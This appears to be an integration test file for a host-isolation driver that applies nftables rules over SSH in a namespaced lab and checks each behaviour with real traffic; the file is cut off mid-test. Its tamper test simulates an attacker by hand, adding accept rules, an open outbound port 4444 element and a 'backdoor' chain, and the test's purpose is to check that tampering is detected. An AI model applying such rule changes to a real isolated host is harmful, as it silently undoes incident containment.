/**
 * The driver against a real lab host: OpenSSH inside a network namespace, real nftables, real
 * traffic from a peer namespace. Every claim the isolation makes is checked with packets.
 */
import { strict as assert } from 'assert';
import * as fs from 'fs';
import { Client } from 'ssh2';
import { IsolationDriver, IsolationError, type TargetInput } from '../../src/driver';
import { RELEASE_NOTICE } from '../../src/driver/driver';
import { SshConnection } from '../../src/driver/transport';
import * as sinon from 'sinon';
import { dropTables, useDriver, useLab, withDriver, expectCode } from '../lab/fixtures';

const TABLE = 'nrhi_test';


describe('driver on the lab host', function () {
  this.timeout(120_000);
  const lab = useLab({ hosts: 1 });
  const driver = useDriver();
  let target: TargetInput;

  before(() => {
    const h = lab.hosts[0];
    target = {
      host: h.v4,
      username: lab.users.root.username,
      privateKey: lab.users.root.privateKey,
      knownHosts: h.knownHosts,
      table: TABLE,
      timeoutMs: 15_000,
    };
  });

  afterEach(() => dropTables(lab, TABLE, [0]));

  const host = () => lab.hosts[0];
  /**
   * This host's release timers (their pids), by the tag the apply script gives them: the table AND
   * the host's network namespace (other labs on the machine run the same table name at the same time)
   */
  const timers = async (): Promise<string> => {
    const ns = /\[(\d+)\]/.exec((await lab.exec(host().ns, ['readlink', '/proc/self/ns/net'])).stdout)?.[1];
    assert.ok(ns, 'the namespace inode');
    return (await lab.exec(host().ns, ['pgrep', '-f', `nrhi-release:${TABLE}:${ns}:`])).stdout.trim();
  };

  it('reports a fresh host as not isolated', async () => {
    const st = await driver.status(target);
    assert.equal(st.isolated, false);
    assert.equal(st.host, host().v4);
    assert.deepEqual(st.exceptions, []);
  });

  it('blocks inbound and outbound on v4 and v6, keeps management, and unisolate restores everything', async () => {
    const hostListener = await lab.listen(host().ns, 7001);
    const peerListener = await lab.listen(lab.peer.ns, 7002);
    try {
      const paths = async () => ({
        in4: await lab.tryConnect(lab.peer.ns, host().v4, 7001),
        in6: await lab.tryConnect(lab.peer.ns, host().v6, 7001),
        out4: await lab.tryConnect(host().ns, lab.peer.v4, 7002),
        out6: await lab.tryConnect(host().ns, lab.peer.v6, 7002),
        ping4: await lab.ping(lab.peer.ns, host().v4),
        ping6: await lab.ping(lab.peer.ns, host().v6),
      });
      const open = { in4: true, in6: true, out4: true, out6: true, ping4: true, ping6: true };
      assert.deepEqual(await paths(), open, 'lab traffic works before isolation');

      const st = await driver.isolate(target, { reason: 'test isolation' });
      assert.equal(st.isolated, true);
      assert.equal(st.mode, 'enforce');
      assert.equal(st.reason, 'test isolation');
      assert.deepEqual(st.management, [{ addr: lab.controller.v4, port: 22 }]);
      assert.deepEqual(await paths(), { in4: false, in6: false, out4: false, out6: false, ping4: false, ping6: false });

      // management: a brand-new controller on a fresh connection still gets in and reads the truth
      const fresh = new IsolationDriver();
      try {
        const again = await fresh.status(target);
        assert.equal(again.isolated, true);
        assert.equal(again.since, st.since);
        assert.equal(again.reason, 'test isolation');
        assert.ok(again.dropped && again.dropped.in.packets > 0, 'drops are counted');
      } finally {
        await fresh.close();
      }

      const un = await driver.unisolate(target);
      assert.equal(un.isolated, false);
      assert.deepEqual(await paths(), open, 'unisolate restores all traffic');
      const tables = await lab.nft(host().ns, ['list', 'tables']);
      assert.ok(!tables.stdout.includes(TABLE), 'table removed');
      // unisolate on a host that is not isolated is a no-op, not an error
      assert.equal((await driver.unisolate(target)).isolated, false);
    } finally {
      hostListener.close();
      peerListener.close();
    }
  });

  it('keeps an IPv6 management channel (neighbour discovery included) working', async () => {
    const v6target = { ...target, host: host().v6, knownHosts: host().knownHostsV6 };
    const d = new IsolationDriver();
    try {
      const st = await d.isolate(v6target, {});
      assert.deepEqual(st.management, [{ addr: lab.controller.v6, port: 22 }]);
      // flush the neighbour cache on the host so that v6 must resolve again under isolation
      await lab.exec(host().ns, ['ip', '-6', 'neigh', 'flush', 'all']);
      const fresh = new IsolationDriver();
      try {
        assert.equal((await fresh.status(v6target)).isolated, true, 'fresh v6 management connection works');
      } finally {
        await fresh.close();
      }
      assert.equal(await lab.tryConnect(lab.peer.ns, host().v6, 22, 1000), false, 'other v6 peers stay out');
      assert.equal((await d.unisolate(v6target)).isolated, false);
    } finally {
      await d.close();
    }
  });

  it('keeps SSH open from the target\'s extra management CIDRs, and nothing else from them', async () => {
    const l = await lab.listen(host().ns, 7030);
    try {
      const st = await driver.isolate({ ...target, managementCidrs: [`${lab.peer.v4}/32`] }, {});
      assert.deepEqual(st.management, [
        { addr: lab.controller.v4, port: 22 },
        { addr: lab.peer.v4, port: 22 },
      ]);
      assert.equal(await lab.tcpOpen(lab.peer.ns, host().v4, 22), true, 'management CIDR reaches sshd');
      assert.equal(await lab.tryConnect(lab.peer.ns, host().v4, 7030), false, 'but nothing else');
      assert.equal(await lab.tcpOpen(lab.peer.ns, host().v6, 22), false, 'and not over the family it does not name');
    } finally {
      l.close();
    }
  });

  it('severs a connection that was open before isolation', async () => {
    const hostListener = await lab.listen(host().ns, 7003);
    const conn = await lab.openConnection(lab.peer.ns, host().v4, 7003);
    try {
      assert.equal(await conn.roundTrip(), true, 'connection works before');
      await driver.isolate(target, {});
      assert.equal(await conn.roundTrip(), false, 'established connection cut');
      await driver.unisolate(target);
    } finally {
      conn.close();
      hostListener.close();
    }
  });

  it('passes exactly what the exceptions name, and nothing else', async () => {
    const listeners = [
      await lab.listen(host().ns, 8080),
      await lab.listen(host().ns, 8081),
      await lab.listen(lab.peer.ns, 9000),
      await lab.listen(lab.peer.ns, 9001),
      await lab.listen(lab.peer.ns, 5353, { udp: true }),
    ];
    try {
      const st = await driver.isolate(target, {
        presets: ['icmp'],
        exceptions: [
          { direction: 'in', proto: 'tcp', addr: lab.peer.v4, port: 8080, comment: 'collector v4 only' },
          { direction: 'out', proto: 'tcp', addr: lab.peer.v6, port: '9000-9000' },
          { direction: 'out', proto: 'udp', addr: lab.peer.v4, port: 5353 },
        ],
      });
      assert.equal(st.exceptions.filter((e) => e.proto !== 'icmp').length, 3);
      assert.equal(await lab.tryConnect(lab.peer.ns, host().v4, 8080), true, 'named inbound v4 port passes');
      assert.equal(await lab.tryConnect(lab.peer.ns, host().v6, 8080), false, 'same port over v6 is not named');
      assert.equal(await lab.tryConnect(lab.peer.ns, host().v4, 8081), false, 'neighbouring port blocked');
      assert.equal(await lab.tryConnect(host().ns, lab.peer.v6, 9000), true, 'named outbound v6 passes');
      assert.equal(await lab.tryConnect(host().ns, lab.peer.v4, 9000), false, 'same port over v4 is not named');
      assert.equal(await lab.tryConnect(host().ns, lab.peer.v6, 9001), false, 'neighbouring port blocked');
      assert.equal(await lab.udpRoundTrip(host().ns, lab.peer.v4, 5353), true, 'named udp passes with its reply');
      assert.equal(await lab.ping(lab.peer.ns, host().v4), true, 'icmp preset: ping v4 in');
      assert.equal(await lab.ping(lab.peer.ns, host().v6), true, 'icmp preset: ping v6 in');
      assert.equal(await lab.ping(host().ns, lab.peer.v4), false, 'icmp preset: no echo out (a tunnel to any address)');
    } finally {
      for (const l of listeners) l.close();
    }
  });

  it('service and user exceptions: a uid passes outbound with its replies, nothing else does; a unit is applied or refused clearly', async () => {
    const NOBODY = 65534;
    const listeners = [await lab.listen(lab.peer.ns, 9100), await lab.listen(lab.peer.ns, 9101)];
    try {
      const st = await driver.isolate(target, {
        exceptions: [
          { direction: 'out', proto: 'tcp', uid: 'nobody', port: 9100, comment: 'backup agent' },
          { direction: 'out', proto: 'any', uid: 4242, addr: lab.peer.v6 },
        ],
      });
      assert.equal(st.exceptions.length, 2);
      assert.equal(await lab.tryConnect(host().ns, lab.peer.v4, 9100, 1500, { uid: NOBODY }), true, 'the excepted user reaches its port, replies included');
      assert.equal(await lab.tryConnect(host().ns, lab.peer.v6, 9100, 1500, { uid: NOBODY }), true, 'over v6 too');
      assert.equal(await lab.tryConnect(host().ns, lab.peer.v4, 9101, 1500, { uid: NOBODY }), false, 'but no other port');
      assert.equal(await lab.tryConnect(host().ns, lab.peer.v4, 9100), false, 'another user (root) stays blocked');
      assert.equal(await lab.tryConnect(host().ns, lab.peer.v6, 9101, 1500, { uid: 4242 }), true, 'uid by number, any port to its address');
      assert.equal(await lab.tryConnect(host().ns, lab.peer.v4, 9101, 1500, { uid: 4242 }), false, 'not to another address');

      // live change: removing the user exception closes its path in one transaction
      await driver.setExceptions(target, 'remove', [{ direction: 'out', proto: 'tcp', uid: 'nobody', port: 9100 }]);
      assert.equal(await lab.tryConnect(host().ns, lab.peer.v4, 9100, 1500, { uid: NOBODY }), false, 'removed: blocked');
      assert.equal(await lab.tryConnect(host().ns, lab.peer.v6, 9101, 1500, { uid: 4242 }), true, 'the other one stays');

      // a systemd unit (cgroup v2) needs nft to know `socket cgroupv2`: either it applies, or a clear
      // UNSUPPORTED error leaves the isolation exactly as it was
      // the table as it stands, counters aside (stray packets move them while the test runs)
      const table = async () => (await lab.nft(host().ns, ['-j', 'list', 'table', 'inet', TABLE])).stdout.replace(/"packets": \d+, "bytes": \d+/g, '').replace(/"expires": \d+/g, '');
      const before = await table();
      try {
        await driver.setExceptions(target, 'add', [{ direction: 'out', proto: 'any', unit: 'nrhi-absent.service' }]);
        assert.fail('a unit whose cgroup does not exist cannot be applied');
      } catch (err) {
        assert.ok(err instanceof IsolationError, String(err));
        const version = /v(\d+)\.(\d+)\.(\d+)/.exec((await lab.exec(host().ns, ['nft', '--version'])).stdout);
        const old = version !== null && Number(version[1]) * 10000 + Number(version[2]) * 100 + Number(version[3]) <= 10006;
        // nft up to 1.0.6 (Debian 12) cannot take it in JSON at all; newer ones fail on the absent cgroup
        assert.equal(err.code, old ? 'UNSUPPORTED' : 'NFT_FAILED', err.message);
        if (err.code === 'UNSUPPORTED') assert.match(err.message, /cgroup.*5\.13/);
      }
      assert.equal(await table(), before, 'nothing changed on the host');
      await expectCode(driver.isolate(target, { exceptions: [{ direction: 'in', proto: 'tcp', uid: 0 }] as never }), 'VALIDATION');
    } finally {
      for (const l of listeners) l.close();
      await driver.unisolate(target);
    }
  });

  it('takes one exec per action on a warm connection, and recovers when its picture of the host is stale', async () => {
    const d = new IsolationDriver();
    const execs = sinon.spy(SshConnection.prototype, 'exec'); // counts real execs, changes nothing
    try {
      const count = async (what: string, fn: () => Promise<unknown>) => {
        execs.resetHistory();
        await fn();
        return [what, execs.callCount];
      };
      // cold adds the connect (and its one read of SSH_CONNECTION) and the preflight of the first
      // isolate on a connection (host/preflight.ts): the action itself is still one exec
      assert.deepEqual(await count('cold isolate', () => d.isolate(target, { verify: false })), ['cold isolate', 3]);
      await d.unisolate(target);
      const exc = [{ direction: 'in' as const, proto: 'tcp' as const, port: 9443 }];
      assert.deepEqual(
        [
          await count('isolate', () => d.isolate(target, { presets: ['ssh'], verify: false })),
          // the first server preset on a connection reads the host's servers once (one more exec)
          await count('re-isolate', () => d.isolate(target, { presets: ['ssh', 'dns'], verify: false })),
          await count('re-isolate warm', () => d.isolate(target, { presets: ['ssh', 'dns', 'ntp'], verify: false })),
          await count('status', () => d.status(target)),
          await count('exception-set', () => d.setExceptions(target, 'add', exc)),
          await count('unisolate', () => d.unisolate(target)),
          await count('isolate again', () => d.isolate(target, { verify: false })),
        ],
        [['isolate', 1], ['re-isolate', 2], ['re-isolate warm', 1], ['status', 1], ['exception-set', 1], ['unisolate', 1], ['isolate again', 1]],
      );
      // verify-then-commit adds the confirm; its proof (a host whose login is local: a new TCP
      // connection answered by sshd, see verify-proof.test.ts) runs no command on the host
      assert.deepEqual(await count('verified', () => d.isolate(target, {})), ['verified', 2]);
      const since = (await d.status(target)).since;

      // behind the driver's back: the table is gone. The guard fails, nothing changes, it reads and applies
      await lab.nft(host().ns, ['delete', 'table', 'inet', TABLE]);
      assert.deepEqual(await count('stale isolate', () => d.isolate(target, { verify: false })), ['stale isolate', 3]);
      const fresh = await d.status(target);
      assert.equal(fresh.isolated, true);
      assert.notEqual(fresh.since, since, 'a new isolation, not the old one resumed');
      // and the other way: isolated behind its back while it believes the host is free
      await d.unisolate(target);
      const other = new IsolationDriver();
      try {
        await other.isolate(target, { reason: 'someone else', verify: false });
      } finally {
        await other.close();
      }
      const st = await d.isolate(target, { verify: false });
      assert.equal(st.reason, 'someone else', 'the re-isolation kept what the host had (since, reason)');
      // a change by someone else between two of ours is kept, not overwritten from a stale picture
      const third = new IsolationDriver();
      try {
        await third.setExceptions(target, 'add', [{ direction: 'in', proto: 'tcp', port: 7777, comment: 'theirs' }]);
      } finally {
        await third.close();
      }
      const both = await d.setExceptions(target, 'add', exc);
      assert.deepEqual(both.exceptions.map((e) => e.port).sort(), [7777, 9443]);
    } finally {
      execs.restore();
      await d.close();
    }
  });

  it('status reports tampering: nothing on a table as the pack wrote it, each change made behind its back', async () => {
    const variants = [
      { presets: ['ssh' as const, 'dns' as const, 'dhcp' as const, 'icmp' as const, 'cloud-metadata' as const, 'ldaps' as const] },
      {
        mode: 'audit' as const,
        exceptions: [
          { direction: 'in' as const, proto: 'tcp' as const, addr: '198.18.0.0/16', port: '1000-2000' },
          { direction: 'out' as const, proto: 'any' as const, addr: '2001:db8::/48' },
          { direction: 'in' as const, proto: 'icmp' as const, addr: '198.18.5.5', icmpType: 'echo-request' },
          { direction: 'out' as const, proto: 'tcp' as const, uid: 'nobody', port: 443 },
          { direction: 'out' as const, proto: 'udp' as const, uid: 0, addr: '198.18.9.0/24' },
          { direction: 'in' as const, proto: 'udp' as const, port: 53 },
          { direction: 'in' as const, proto: 'udp' as const, addr: '198.18.0.7', port: 53 },
        ],
      },
      { duration: 600, exceptions: [{ direction: 'out' as const, proto: 'icmp' as const }] },
    ];
    for (const v of variants) {
      await driver.isolate(target, { ...v, verify: true });
      const st = await driver.status(target);
      assert.deepEqual(st.tampered, [], `fresh isolation ${JSON.stringify(v).slice(0, 80)}: ${st.tampered.join('; ')}`);
    }
    await driver.unisolate(target);
    await driver.isolate(target, { presets: ['ssh'], verify: false });
    const ns = host().ns;
    const tamper = async (args: string[], expect: RegExp) => {
      await lab.nft(ns, args);
      const st = await driver.status(target);
      assert.ok(st.isolated);
      assert.ok(st.tampered.some((f) => expect.test(f)), `${args.join(' ')} -> ${JSON.stringify(st.tampered)}`);
      await driver.isolate(target, { presets: ['ssh'], verify: false }); // the pack's isolate repairs it
      assert.deepEqual((await driver.status(target)).tampered, [], 're-isolating restores the table');
    };
    await tamper(['insert', 'rule', 'inet', TABLE, 'input', 'ip', 'saddr', lab.peer.v4, 'accept'], /chain input has \d+ rules/);
    await tamper(['chain', 'inet', TABLE, 'output', '{', 'policy', 'accept', ';', '}'], /chain output was changed: .*policy accept/);
    await tamper(['add', 'element', 'inet', TABLE, 'in4_any', '{', lab.peer.v4, '}'], new RegExp(`set in4_any: elements added .*${lab.peer.v4.replaceAll('.', '\\.')}`));
    await tamper(['add', 'element', 'inet', TABLE, 'out4', '{', '0.0.0.0/0', '.', 'tcp', '.', '4444', '}'], /set out4: elements added/);
    await tamper(['flush', 'chain', 'inet', TABLE, 'forward'], /chain forward has 0 rules/);
    await tamper(['add', 'chain', 'inet', TABLE, 'backdoor'], /chain backdoor was added/);
    const handles = JSON.parse((await lab.nft(ns, ['-j', '-a', 'list', 'chain', 'inet', TABLE, 'input'])).stdout) as { nftables: { rule?: { handle: number } }[] };
    const second = handles.nftables.filter((i) => i.rule).map((i) => i.rule!.handle)[1];
    await tamper(['replace', 'rule', 'inet', TABLE, 'input', 'handle', String(second), 'ip', 'saddr', '0.0.0.0/0', 'tcp', 'dport', '22', 'accept'], /chain input: rule 2 was changed/);
    // removed outright, while this controller had it isolated
    await lab.nft(ns, ['delete', 'table', 'inet', TABLE]);
    const gone = await driver.status(target);
    assert.equal(gone.isolated, false);
    assert.match(gone.tampered.join(' '), /removed by something other than this controller/);
    assert.deepEqual((await driver.status(target)).tampered, [], 'said once; afterwards the host is simply not isolated');
  });

  it('is idempotent: the same request twice gives the same ruleset and the same answer', async () => {
    const req = { presets: ['ssh', 'dns'] as ('ssh' | 'dns')[], exceptions: [{ direction: 'in' as const, proto: 'tcp' as const, port: 443 }], reason: 'twice' };
    // the table without its counters (stray packets move them): `-s` lists it stateless
    const table = async () => (await lab.nft(host().ns, ['-s', 'list', 'table', 'inet', TABLE])).stdout;
    const present = async () => (await lab.nft(host().ns, ['list', 'tables'])).stdout.includes(TABLE);
    const a = await driver.isolate(target, req);
    const listA = await table();
    const b = await driver.isolate(target, req);
    const listB = await table();
    assert.equal(a.changed, true, 'the first isolates');
    assert.equal(b.changed, false, 'the second finds it isolated exactly so');
    assert.deepEqual(b, { ...a, changed: false });
    // seed 002: the same request twice gives the same final ruleset, byte for byte
    assert.equal(listB, listA);
    // still re-asserted: a table removed behind our back is put back by the same request, and
    // that is a change of the host (it was not isolated any more)
    await lab.nft(host().ns, ['delete', 'table', 'inet', TABLE]);
    const c = await driver.isolate(target, req);
    assert.equal(c.changed, true, 'put back');
    assert.ok(await present());
    const other = { ...req, reason: 'other' };
    assert.equal((await driver.isolate(target, other)).changed, true, 'a different isolation is a change');
    // unisolate says whether it released anything
    assert.equal((await driver.unisolate(target)).changed, true, 'released');
    assert.equal((await driver.unisolate(target)).changed, false, 'was not isolated');
    const second = new IsolationDriver();
    try {
      // a controller with no belief at all
      await driver.isolate(target, req);
      assert.equal((await second.unisolate(target)).changed, true, 'a controller with no belief releases and says so');
      assert.equal((await second.unisolate(target)).changed, false);
      // `second` believes the host free: isolated behind its back, with a release timer of its own
      await driver.isolate(target, { ...req, duration: 600 });
      // armed in the background of the apply script: give it a moment to start (bounded)
      for (let i = 0; i < 50 && (await timers()) === ''; i++) await new Promise((r) => setTimeout(r, 100));
      assert.notEqual(await timers(), '', 'a release timer is armed');
      assert.equal((await second.unisolate(target)).changed, true, 'a wrong belief still ends in the truth');
      assert.ok(!(await present()));
      assert.equal(await timers(), '', 'and the timer it did not know of is cancelled');
      // `driver` believes the host isolated: released behind its back, its belief changes nothing
      assert.equal((await driver.unisolate(target)).changed, false, 'released by the other controller: nothing left to release');
      // released and isolated again by the other controller, with the same request: the belief of
      // `driver` (an isolation it made earlier) must not match this one
      await driver.isolate(target, req);
      await second.unisolate(target);
      const theirs = await second.isolate(target, req);
      assert.equal(theirs.changed, true);
      const listTheirs = await table();
      const again = await driver.isolate(target, req);
      assert.equal(again.changed, false, 'isolated exactly so, by the other controller');
      assert.equal(again.since, theirs.since, 'their isolation is the one that goes on');
      assert.equal(await table(), listTheirs, 'byte for byte theirs');
      // re-isolated differently by the other controller: the same request from `driver` is a change
      await second.isolate(target, { ...req, reason: 'theirs' });
      const back = await driver.isolate(target, req);
      assert.equal(back.changed, true, 'their different isolation was replaced');
      assert.equal((await second.status(target)).reason, 'twice');
    } finally {
      await second.close();
    }
    const last = await driver.isolate(target, req);
    assert.deepEqual(await driver.status(target), { ...last, dropped: (await driver.status(target)).dropped, severed: null, changed: false });
  });

  it('tells logged-in users with wall on isolate, on a timed release and on unisolate', async () => {
    // a user logged in on the host with a terminal: sshd records the session in utmp, wall writes to it
    const UTMP = '/var/run/utmp';
    const madeUtmp = !fs.existsSync(UTMP);
    if (madeUtmp) fs.writeFileSync(UTMP, '', { mode: 0o664 });
    const client = new Client();
    try {
      let screen = '';
      await new Promise<void>((resolve, reject) => {
        client.on('ready', () =>
          client.shell({ term: 'vt100', rows: 24, cols: 200 }, (err, stream) => {
            if (err) return reject(err);
            stream.on('data', (d: Buffer) => (screen += d.toString()));
            resolve();
          }),
        );
        client.on('error', reject);
        client.connect({ host: host().v4, username: lab.users.root.username, privateKey: lab.users.root.privateKey, readyTimeout: 10_000, hostVerifier: () => true });
      });
      const seen = async (text: string, ms = 8000) => {
        const end = Date.now() + ms;
        while (Date.now() < end && !screen.includes(text)) await new Promise((r) => setTimeout(r, 100));
        return screen.includes(text);
      };
      await driver.isolate(target, { duration: 3, wall: 'Isolated by the SOC: INC-42. Do not power off.' });
      assert.ok(await seen('Isolated by the SOC: INC-42'), `isolate notice on the terminal; got ${JSON.stringify(screen.slice(-300))}`);
      assert.ok(await seen(RELEASE_NOTICE, 10_000), 'timed release notice');
      assert.equal((await driver.status(target)).isolated, false);

      await driver.isolate(target, {});
      await expectCode(driver.unisolate(target, { wall: 'bad \u0007 bell' }), 'VALIDATION');
      assert.equal((await driver.status(target)).isolated, true, 'a refused notice changes nothing');
      await driver.unisolate(target, { wall: 'Released: back on the network.' });
      assert.ok(await seen('Released: back on the network.'), 'unisolate notice');
    } finally {
      client.end();
      if (madeUtmp) fs.rmSync(UTMP, { force: true });
    }
  });

  it('persist: a reboot does not end the isolation; changes follow it; unisolate removes it', async () => {
    const unit = `/etc/systemd/system/node-red-isolation-${TABLE}.service`;
    const wants = `/etc/systemd/system/sysinit.target.wants/node-red-isolation-${TABLE}.service`;
    const onHost = async (argv: string[], stdin?: string) => lab.hostExec(0, argv, stdin);
    const unitText = async () => {
      const r = await onHost(['cat', unit]);
      return r.code === 0 ? r.stdout : null;
    };
    // a reboot as far as the firewall goes: the kernel's ruleset is gone, then the boot runs the
    // unit's command with its standard input, as systemd does for StandardInputData + ExecStart
    const reboot = async () => {
      await lab.nft(host().ns, ['flush', 'ruleset']);
      const text = await unitText();
      if (text === null || (await onHost(['test', '-L', wants])).code !== 0) return false;
      const data = /^StandardInputData=(.+)$/m.exec(text)![1];
      const exec = /^ExecStart=(.+)$/m.exec(text)![1].split(' ');
      const r = await onHost(exec, Buffer.from(data, 'base64').toString('utf8'));
      assert.equal(r.code, 0, r.stderr);
      return true;
    };
    const listener = await lab.listen(host().ns, 7300);
    try {
      const st = await driver.isolate(target, { persist: true, reason: 'persist: ransomware beacon' });
      assert.equal(st.persist, true);
      assert.match((await unitText()) ?? '', /WantedBy=sysinit\.target/);
      assert.ok(!fs.existsSync(unit), "never this machine's own /etc");
      assert.equal(await lab.tryConnect(lab.peer.ns, host().v4, 7300), false);

      assert.equal(await reboot(), true, 'boot unit installed and enabled');
      assert.equal(await lab.tryConnect(lab.peer.ns, host().v4, 7300), false, 'still isolated after the reboot');
      const after = await driver.status(target);
      assert.deepEqual([after.isolated, after.since, after.reason, after.persist], [true, st.since, st.reason, true]);

      // a live change is carried into the boot unit in the same exec
      await driver.setExceptions(target, 'add', [{ direction: 'in', proto: 'tcp', addr: lab.peer.v4, port: 7300, comment: 'collector' }]);
      assert.equal(await reboot(), true);
      assert.equal(await lab.tryConnect(lab.peer.ns, host().v4, 7300), true, 'the exception survives the reboot');
      assert.ok((await driver.status(target)).exceptions.some((e) => e.comment === 'collector'));

      await expectCode(driver.isolate(target, { persist: true, duration: 60 }), 'VALIDATION');
      // a new isolation without persist takes the boot unit away; unisolate does too
      await driver.isolate(target, {});
      assert.equal(await unitText(), null);
      await driver.isolate(target, { persist: true });
      assert.notEqual(await unitText(), null);
      await driver.unisolate(target);
      assert.equal(await unitText(), null);
      assert.equal((await onHost(['test', '-L', wants])).code, 1, 'and its enablement');
      assert.equal(await reboot(), false);
      assert.equal(await lab.tryConnect(lab.peer.ns, host().v4, 7300), true, 'free after unisolate and a reboot');

      // a user allowed only nft cannot install the unit: refused, and nothing stays changed
      const sudo = lab.users.sudo;
      const viaSudo = { ...target, username: sudo.username, privateKey: sudo.privateKey, passphrase: sudo.passphrase, sudo: true };
      const d = new IsolationDriver();
      try {
        await expectCode(d.isolate(viaSudo, { persist: true }), 'PRIVILEGE');
        await expectCode(d.isolate(viaSudo, { persist: true, verify: false }), 'PRIVILEGE');
        assert.equal((await d.status(viaSudo)).isolated, false, 'rolled back / never applied');
        assert.equal(await unitText(), null);
      } finally {
        await d.close();
      }
    } finally {
      listener.close();
    }
  });

  it('releases itself on the host when the duration is up, restoring traffic', async () => {
    const l = await lab.listen(host().ns, 7010);
    try {
      const t0 = Date.now();
      const st = await driver.isolate(target, { duration: 2, reason: 'timed' });
      assert.ok(st.expiresAt, 'expiresAt reported');
      const exp = Date.parse(st.expiresAt!);
      assert.ok(exp >= t0 + 1500 && exp <= Date.now() + 2500, `expiresAt ${st.expiresAt}`);
      assert.equal((await driver.status(target)).expiresAt, st.expiresAt, 'expiresAt kept on the host');
      assert.equal(await lab.tryConnect(lab.peer.ns, host().v4, 7010), false);
      const deadline = Date.now() + 15_000;
      while ((await driver.status(target)).isolated) {
        assert.ok(Date.now() < deadline, 'host did not release itself');
        await new Promise((r) => setTimeout(r, 250));
      }
      assert.equal(await lab.tryConnect(lab.peer.ns, host().v4, 7010), true, 'traffic restored by the host itself');
    } finally {
      l.close();
    }
  });

  it('a stale release timer never undoes a newer isolation; unisolate cancels the timer', async () => {
    await driver.isolate(target, { duration: 2 });
    assert.notEqual(await timers(), '', 'a release timer runs on the host');
    await driver.isolate(target, { duration: 0, reason: 'newer, no expiry' });
    assert.equal(await timers(), '', 're-isolating cancels the old timer');
    // even a timer that escaped cancellation cannot release it: arm one by hand with the old batch
    await new Promise((r) => setTimeout(r, 3000));
    const st = await driver.status(target);
    assert.equal(st.isolated, true, 'the newer isolation stands');
    assert.equal(st.expiresAt, null);
    await driver.isolate(target, { duration: 30 });
    assert.notEqual(await timers(), '');
    await driver.unisolate(target);
    assert.equal(await timers(), '', 'unisolate cancels the timer');
    // and nothing of it stays behind: not even its `sleep` (the soak found one left per timer once)
    assert.deepEqual(lab.processes(host().ns).filter((c) => c === 'sleep'), [], 'no sleep process left on the host');
  });

  it('a release batch for an older isolation fails as a whole on a newer one', async () => {
    const older = await driver.isolate(target, { duration: 60 });
    await driver.isolate(target, { duration: 120 });
    const { renderRelease } = await import('../../src/driver/ruleset');
    const stale = renderRelease(TABLE, { v: 1, since: older.since!, reason: null, mode: 'enforce', expiresAt: older.expiresAt, management: [], exceptions: [] });
    const r = await lab.exec(host().ns, ['nft', '-j', '-f', '-'], JSON.stringify(stale));
    assert.notEqual(r.code, 0, 'stale release refused');
    assert.match(r.stderr, /No such file or directory/, `refused for the missing expiry element: ${r.stderr}`);
    assert.equal((await driver.status(target)).isolated, true);
  });

  it('audit mode drops nothing, records what enforce would drop, and switches to enforce keeping the exceptions', async () => {
    const listeners = [await lab.listen(host().ns, 7020), await lab.listen(host().ns, 7021), await lab.listen(lab.peer.ns, 7022)];
    try {
      const st = await driver.isolate(target, {
        mode: 'audit',
        reason: 'discovery',
        exceptions: [{ direction: 'in', proto: 'tcp', addr: lab.peer.v4, port: 7021, comment: 'known good' }],
      });
      assert.equal(st.mode, 'audit');
      for (let i = 0; i < 3; i++) assert.equal(await lab.tryConnect(lab.peer.ns, host().v4, 7020), true, 'audit drops nothing (in)');
      assert.equal(await lab.tryConnect(lab.peer.ns, host().v4, 7021), true);
      assert.equal(await lab.tryConnect(host().ns, lab.peer.v4, 7022), true, 'audit drops nothing (out)');
      assert.equal(await lab.ping(lab.peer.ns, host().v6), true, 'audit drops nothing (icmpv6)');

      const s = await driver.status(target);
      assert.equal(s.mode, 'audit');
      const find = (d: string, proto: string, addr: string, port: number | null) =>
        s.observed.find((o) => o.direction === d && o.proto === proto && o.addr === addr && o.port === port);
      const in7020 = find('in', 'tcp', lab.peer.v4, 7020);
      assert.ok(in7020 && in7020.packets >= 3 && in7020.bytes > 0, `inbound flow recorded: ${JSON.stringify(s.observed)}`);
      assert.ok(find('out', 'tcp', lab.peer.v4, 7022), 'outbound flow recorded');
      assert.ok(find('in', 'icmp', lab.peer.v6, null), 'icmpv6 recorded');
      assert.ok(!find('in', 'tcp', lab.peer.v4, 7021), 'excepted flow not recorded');
      assert.ok(!s.observed.some((o) => o.addr === lab.controller.v4 && o.port === 22), 'management not recorded');
      for (let i = 1; i < s.observed.length; i++) assert.ok(s.observed[i - 1].packets >= s.observed[i].packets, 'most packets first');
      assert.ok(s.dropped && s.dropped.in.packets > 0, 'would-drop counted');

      const en = await driver.setMode(target, 'enforce');
      assert.equal(en.mode, 'enforce');
      assert.deepEqual(en.exceptions, st.exceptions, 'exceptions kept');
      assert.equal(en.since, st.since);
      assert.equal(en.reason, 'discovery');
      assert.equal(await lab.tryConnect(lab.peer.ns, host().v4, 7020), false, 'enforced');
      assert.equal(await lab.tryConnect(lab.peer.ns, host().v4, 7021), true, 'exception still passes');
      assert.deepEqual((await driver.status(target)).observed, []);
      await expectCode(driver.setMode(target, 'off' as 'audit'), 'VALIDATION');
    } finally {
      for (const l of listeners) l.close();
    }
  });

  it('verify-then-commit: a confirmed isolation leaves no rollback armed', async () => {
    const st = await driver.isolate(target, { presets: ['ssh'], verify: true });
    assert.equal(st.isolated, true);
    assert.equal(await timers(), '', 'confirmed: the rollback timer is gone');
    const exp = await lab.nft(host().ns, ['-j', 'list', 'set', 'inet', TABLE, 'exp']);
    assert.ok(!/"elem"/.test(exp.stdout), 'no rollback deadline left in the table');
  });

  it('verify-then-commit: when a fresh connection fails, the isolation is rolled back', async () => {
    const l = await lab.listen(host().ns, 7040);
    const d = new IsolationDriver();
    try {
      assert.equal((await d.status(target)).isolated, false); // a warm connection to keep
      await lab.stopSshd(0); // the listener goes away; the established session survives
      const err = await expectCode(d.isolate(target, { presets: ['ssh'] }), 'VERIFY_FAILED');
      assert.equal(err.details.rolledBack, true, err.message);
      const tables = await lab.nft(host().ns, ['list', 'tables']);
      assert.ok(!tables.stdout.includes(TABLE), 'rolled back: no table');
      assert.equal(await lab.tryConnect(lab.peer.ns, host().v4, 7040), true, 'traffic flows');
    } finally {
      l.close();
      await d.close();
      await lab.startSshd(0);
    }
  });

  it('verify-then-commit: the host rolls back by itself what is not confirmed, and a confirm disarms that', async () => {
    const { renderIsolate, renderRollback, renderConfirm } = await import('../../src/driver/ruleset');
    const doc = { v: 1 as const, since: new Date().toISOString(), reason: null, mode: 'enforce' as const, expiresAt: null, management: [{ addr: lab.controller.v4, port: 22 }], exceptions: [] };
    const deadline = Math.floor(Date.now() / 1000) + 30;
    const apply = async (b: unknown) => {
